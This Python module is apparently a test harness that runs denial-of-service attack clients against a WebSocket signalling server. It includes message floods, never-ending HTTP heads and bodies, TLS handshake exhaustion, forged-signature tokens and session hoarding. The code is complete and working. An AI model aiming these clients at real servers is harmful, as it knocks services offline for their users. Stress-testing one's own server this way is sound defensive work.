"""Malicious clients of a signalling server, each attack in a process of its own:

    python -m peers.attack WAY SOURCE PORT SOCKETS

They send as much as the server accepts, from one address, until they are killed. They implement RFC 6455 as far as needed.
"""
import asyncio
import base64
import functools
import itertools
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

USERS = [f"somebody-of-a-long-name-{number:036d}" for number in range(100)]


def frame(payload, opcode=1, length=None):
    """A frame with a mask of zeros."""
    length = len(payload) if length is None else length
    if length < 126:
        head = struct.pack("!BB", 0x80 | opcode, 0x80 | length)
    elif length < 65536:
        head = struct.pack("!BBH", 0x80 | opcode, 0x80 | 126, length)
    else:
        head = struct.pack("!BBQ", 0x80 | opcode, 0x80 | 127, length)
    return head + bytes(4) + payload


def text(**members):
    return frame(json.dumps(members).encode())


async def connect(source, port):
    """A socket that the server has accepted, after as many attempts as needed."""
    loop = asyncio.get_running_loop()
    while True:
        connection = socket.socket(socket.AF_INET)
        connection.setblocking(False)
        try:
            connection.bind((source, 0))
            await loop.sock_connect(connection, (source, port))
            await loop.sock_sendall(connection, (
                f"GET /signal HTTP/1.1\r\nHost: {source}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
            if b" 101 " in await loop.sock_recv(connection, 4096):
                return connection
        except OSError:
            pass
        connection.close()
        await asyncio.sleep(0.05)


async def sign_in(source, port, user):
    connection = await connect(source, port)
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, text(type="hello", version=1, user=user, device=f"d{random.getrandbits(60)}"))
    await loop.sock_recv(connection, 65536)
    return connection


async def read_on(connection):
    while await asyncio.get_running_loop().sock_recv(connection, 1 << 16):
        pass


async def flood(source, port, chunks, reads=True):
    """Signs in and sends `chunks` as fast as possible, and again on a new socket when the server closes it."""
    loop = asyncio.get_running_loop()
    for number in itertools.count():
        try:
            connection = await sign_in(source, port, f"eve-{random.getrandbits(60)}")
            reader = asyncio.create_task(read_on(connection)) if reads else None
            try:
                for chunk in chunks():
                    await loop.sock_sendall(connection, chunk)
            finally:
                if reader:
                    reader.cancel()
                connection.close()
        except OSError:
            await asyncio.sleep(0.01)


def watches():
    while True:
        random.shuffle(USERS)
        yield text(type="watch", users=USERS)


def pings():
    ping = text(type="ping")
    while True:
        yield ping * 100  # as many as are let through at once


def far_too_much():
    ping = text(type="ping")
    while True:
        yield ping * 3000


def asks():
    """Messages with responses, for a client that does not read."""
    ping = frame(bytes(125), 9)
    while True:
        yield ping * 50


def signals_to(users):
    data = "A" * 40000
    for seq in itertools.count(1):
        yield text(type="signal", seq=seq, to={"user": users[seq % len(users)]}, data=data)


def renewals():
    """Other tokens, each of which has to be verified."""
    while True:
        yield text(type="renew", token="A" * 2000) * 20


def asks_for_servers():
    ask = text(type="iceServers")
    while True:
        yield ask * 100


def forgeries(issuer, audience):
    """Tokens with valid claims for this server, and without a valid signature."""
    def part(value):
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
    while True:
        now = int(time.time())
        head = part({"alg": "RS256", "typ": "at+jwt", "kid": f"{random.getrandbits(60)}"})
        claims = part({"iss": issuer, "aud": audience, "sub": "eve", "iat": now, "exp": now + 300})
        signature = base64.urlsafe_b64encode(random.randbytes(256)).rstrip(b"=").decode()
        yield f"{head}.{claims}.{signature}"


async def forge(source, port):
    """Signs in with one forged token after the other. The issuer and the audience are in the environment."""
    loop = asyncio.get_running_loop()
    for token in forgeries(os.environ["ISSUER"], os.environ["AUDIENCE"]):
        try:
            connection = await connect(source, port)
            await loop.sock_sendall(connection, text(type="hello", version=1, token=token))
            await loop.sock_recv(connection, 65536)
            connection.close()
        except OSError:
            await asyncio.sleep(0.01)


async def hoard(source, port, count, absences=3):
    """Disconnected sessions for which many messages wait."""
    absent = []

    async def leave():
        for _ in range(absences):
            user = f"absent-{random.getrandbits(60)}"
            try:
                (await sign_in(source, port, user)).close()
                absent.append(user)
            except OSError:
                pass
    await asyncio.gather(*(leave() for _ in range(count // 2)))
    await asyncio.gather(*(flood(source, port, lambda: signals_to(absent)) for _ in range(count // 2)))


async def unfinished(source, port):
    """An almost complete message."""
    loop = asyncio.get_running_loop()
    while True:
        try:
            connection = await sign_in(source, port, f"eve-{random.getrandbits(60)}")
            await loop.sock_sendall(connection, frame(bytes(65000), 1, 65536))
            await read_on(connection)
            connection.close()
        except OSError:
            await asyncio.sleep(0.01)


async def churn(source, port):
    """Connections that are opened and closed."""
    while True:
        connection = await connect(source, port)
        connection.close()


async def pages(source, port):
    """Requests for all files, whose responses are not read."""
    loop = asyncio.get_running_loop()
    request = f"GET / HTTP/1.1\r\nHost: {source}:{port}\r\n\r\n".encode() * 50
    while True:
        connection = socket.socket(socket.AF_INET)
        connection.setblocking(False)
        try:
            connection.bind((source, 0))
            await loop.sock_connect(connection, (source, port))
            while True:
                await loop.sock_sendall(connection, request)
        except OSError:
            await asyncio.sleep(0.01)
        finally:
            connection.close()


async def bodies(source, port):
    """Requests with an endless body that looks like many empty heads."""
    loop = asyncio.get_running_loop()
    while True:
        connection = socket.socket(socket.AF_INET)
        connection.setblocking(False)
        try:
            connection.bind((source, 0))
            await loop.sock_connect(connection, (source, port))
            await loop.sock_sendall(
                connection, f"POST / HTTP/1.1\r\nHost: {source}\r\nContent-Length: 1000000000000\r\n\r\n".encode())
            while True:
                await loop.sock_sendall(connection, b"\r\n\r\n" * 2000)
        except OSError:
            await asyncio.sleep(0.01)
        finally:
            connection.close()


async def repeat(source, port, *parts):
    """Sends the first parts once and the last one without end, on one connection after the other."""
    loop = asyncio.get_running_loop()
    while True:
        try:
            connection = await dial(source, port)
            try:
                for part in parts[:-1]:
                    await loop.sock_sendall(connection, part)
                while True:
                    await loop.sock_sendall(connection, parts[-1])
            finally:
                connection.close()
        except OSError:
            await asyncio.sleep(0.01)


async def binary_bodies(source, port):
    """Requests whose body looks like thousands of WebSocket frames."""
    await repeat(source, port, f"POST / HTTP/1.1\r\nHost: {source}\r\nContent-Length: 9000000\r\n\r\n".encode() + bytes(4096))


async def heads(source, port):
    """Requests whose head never ends."""
    await repeat(source, port, f"GET / HTTP/1.1\r\nHost: {source}\r\n".encode(), b"X: " + b"x" * 4000 + b"\r\n")


def candidates_for(user):
    seq = itertools.count(1)
    while True:
        call = f"{random.getrandbits(128):032x}"
        yield text(type="invite", seq=next(seq), call=call, to={"user": user}, lifetime=120, again=True) + b"".join(
            text(type="candidates", seq=next(seq), call=call, candidates=[]) for _ in range(90))
        for _ in range(20):
            yield text(type="candidates", seq=next(seq), call=call, candidates=[{"candidate": ""}])


async def late_devices(source, port, count):
    """Invitations to users who are not there yet, with many messages of candidates, which they would get when they sign in."""
    async def wait():
        await asyncio.sleep(3)  # the test begins to look when half of them are there
        while True:
            try:
                await read_on(await sign_in(source, port, f"eve-{random.getrandbits(60)}"))
            except OSError:
                await asyncio.sleep(0.01)
    # Few of them speak, so that each may say much at once.
    speakers = [flood(source, port, functools.partial(candidates_for, f"honest-{number % 2}")) for number in range(12)]
    await asyncio.gather(*speakers, *(wait() for _ in range(count - len(speakers))))


async def half_calls(source, port):
    """Calls that are attached by one side, whose session then ends."""
    loop = asyncio.get_running_loop()
    while True:
        try:
            connection = await sign_in(source, port, f"eve-{random.getrandbits(60)}")
            peer = {"user": "nobody", "device": "d"}
            attaches = b"".join(
                text(type="attach", seq=seq, call=f"{random.getrandbits(128):032x}", peer=peer, caller=True)
                for seq in range(1, 9))
            # A gap in the numbers ends the session.
            await loop.sock_sendall(connection, attaches + text(type="attach", seq=99, call="0" * 32, peer=peer, caller=True))
            await read_on(connection)
            connection.close()
        except OSError:
            await asyncio.sleep(0.01)


def members():
    """Unknown messages with thousands of members."""
    message = frame(('{"type":"x"' + "".join(f',"{number:x}":0' for number in range(6000)) + "}").encode())
    while True:
        yield message


async def fans(source, port, count):
    """A user with many watchers connects and disconnects."""
    idol = f"idol-{random.getrandbits(60)}"

    async def watch():
        while True:
            try:
                connection = await sign_in(source, port, f"fan-{random.getrandbits(60)}")
                await asyncio.get_running_loop().sock_sendall(connection, text(type="watch", users=[idol]))
                await read_on(connection)
                connection.close()
            except OSError:
                await asyncio.sleep(0.01)

    async def come_and_go():
        while True:
            try:
                connection = await sign_in(source, port, idol)
                await asyncio.get_running_loop().sock_sendall(connection, text(type="bye"))
                connection.close()
            except OSError:
                await asyncio.sleep(0.01)
    await asyncio.gather(come_and_go(), *(watch() for _ in range(count)))


async def at_once(source, port, count, prepare, finish):
    """Prepares as many connections as possible, and completes them all at the same moment, repeatedly."""
    prepared = []

    async def fill():
        while True:
            try:
                prepared.append(await asyncio.wait_for(prepare(source, port), 5))
            except (OSError, TimeoutError):
                await asyncio.sleep(0.01)
    fillers = [asyncio.create_task(fill()) for _ in range(min(count, 50))]
    enough, end = count, time.monotonic() + 10
    while True:
        while len(prepared) < enough and time.monotonic() < end:
            await asyncio.sleep(0.01)
        if enough == count:
            await asyncio.sleep(1)  # the test begins to look when half of them are there
        # All that a server admits at first, and then those that it admits within a second.
        enough, end = 20, float("inf")
        now, prepared[:] = prepared[:], []
        for connection in now:
            finish(connection)
    await asyncio.gather(*fillers)


async def farewells(source, port, count):
    """Sockets that close with much unread input."""
    words = text(type="watch", users=[f"{number:x}" for number in range(100)]) * 20

    def finish(connection):
        try:
            connection.send(words)
        except OSError:
            pass
        connection.close()
    await at_once(
        source, port, count, lambda source, port: sign_in(source, port, f"eve-{random.getrandbits(60)}"), finish)


def client_hello():
    """A TLS ClientHello, created once, so that only the server has work."""
    outgoing = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def dial(source, port):
    connection = socket.socket(socket.AF_INET)
    connection.setblocking(False)
    try:
        connection.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(connection, (source, port))
        return connection
    except OSError:
        connection.close()
        raise


async def handshakes(source, port, count):
    """TLS handshakes, all at the same moment, for which each client has done its part before."""
    hello, old = client_hello(), []

    def finish(connection):
        try:
            connection.send(hello)
        except OSError:
            pass
        old.append(connection)
        if len(old) > count:
            old.pop(0).close()
    await at_once(source, port, count, dial, finish)


async def half_open(source, port):
    """TLS handshakes that never complete."""
    loop = asyncio.get_running_loop()
    hello = client_hello()
    while True:
        try:
            connection = await dial(source, port)
            await loop.sock_sendall(connection, hello[:-1])
            await read_on(connection)
            connection.close()
        except OSError:
            await asyncio.sleep(0.01)


def many(one):
    async def all_of_them(source, port, count):
        await asyncio.gather(*(one(source, port) for _ in range(count)))
    return all_of_them


WAYS = {
    "watches": many(lambda source, port: flood(source, port, watches)),
    "pings": many(lambda source, port: flood(source, port, pings)),
    "far-too-much": many(lambda source, port: flood(source, port, far_too_much)),
    "reads-nothing": many(lambda source, port: flood(source, port, asks, reads=False)),
    "unfinished": many(unfinished),
    "absent": hoard,
    "churn": many(churn),
    "pages": many(pages),
    "bodies": many(bodies),
    "binary-bodies": many(binary_bodies),
    "heads": many(heads),
    "members": many(lambda source, port: flood(source, port, members)),
    "fans": fans,
    "farewells": farewells,
    "renewals": many(lambda source, port: flood(source, port, renewals)),
    "servers": many(lambda source, port: flood(source, port, asks_for_servers)),
    "late-devices": late_devices,
    "half-calls": many(half_calls),
}
# The attacks on a server that accepts an issuer's tokens.
ISSUER_WAYS = {
    "forged-tokens": many(forge),
}
# All that one address may have: 512 sockets, and 1,200 disconnected sessions.
LARGE_WAYS = {
    "absent-1200": functools.partial(hoard, absences=5),
}
# The attacks on a TLS server.
TLS_WAYS = {
    "handshakes": handshakes,
    "half-open": many(half_open),
}


async def echo(source, port, _):
    """No attack: a trivial server, whose response times show the machine's load."""
    async def answer(reader, writer):
        while line := await reader.readline():
            writer.write(line)
    server = await asyncio.start_server(answer, source, port)
    await server.serve_forever()


if __name__ == "__main__":
    way, source, port, count = sys.argv[1:]
    asyncio.run({"echo": echo, **WAYS, **TLS_WAYS, **ISSUER_WAYS, **LARGE_WAYS}[way](source, int(port), int(count)))
